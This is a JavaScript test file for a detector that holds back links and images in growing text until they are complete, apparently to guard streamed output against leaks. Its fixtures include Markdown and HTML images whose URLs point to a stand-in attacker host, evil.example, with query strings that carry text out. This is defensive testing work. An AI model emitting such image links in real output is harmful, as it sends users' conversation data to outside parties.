import { expect } from 'chai'
import { LinksDetector } from '../../src/links/detector.js'
import { expectNoCutIn, lastCut } from '../open-spans.js'

const detector = new LinksDetector()

describe('the open spans of a text with links that grows', () => {
  for (const text of [
    'See ![a](https://evil.example/?q=all "of (it)") and [b c](https://evil.example/?q) there.',
    'See <img alt="a > b" src="https://evil.example/?q"> and <a href=https://evil.example/?q>b</a>.',
    'A\n\n[x]:\n  <https://evil.example/?q> "t"\nB <https://evil.example/?q> https://evil.example/?q.',
  ])
    it(`hold all of ${JSON.stringify(text.slice(0, 24))}…`, () => expectNoCutIn(detector, text))

  it('let nothing of an image out before it ends', async () => {
    const text = 'Look: ![a chart of it](https://evil.example/?q=what+was+said'
    for (let length = 7; length <= text.length; length += 1)
      expect(await lastCut(detector, text.slice(0, length)), text.slice(0, length)).to.equal(6)
  })

  for (const text of ['Hello. ', 'A list [1], and (2) more. ', 'if (a < b) c[0] = d. ', 'Done ![a](x.png) here. '])
    it(`are none at the end of ${JSON.stringify(text)}`, async () =>
      expect(await lastCut(detector, text)).to.equal(text.length))
})
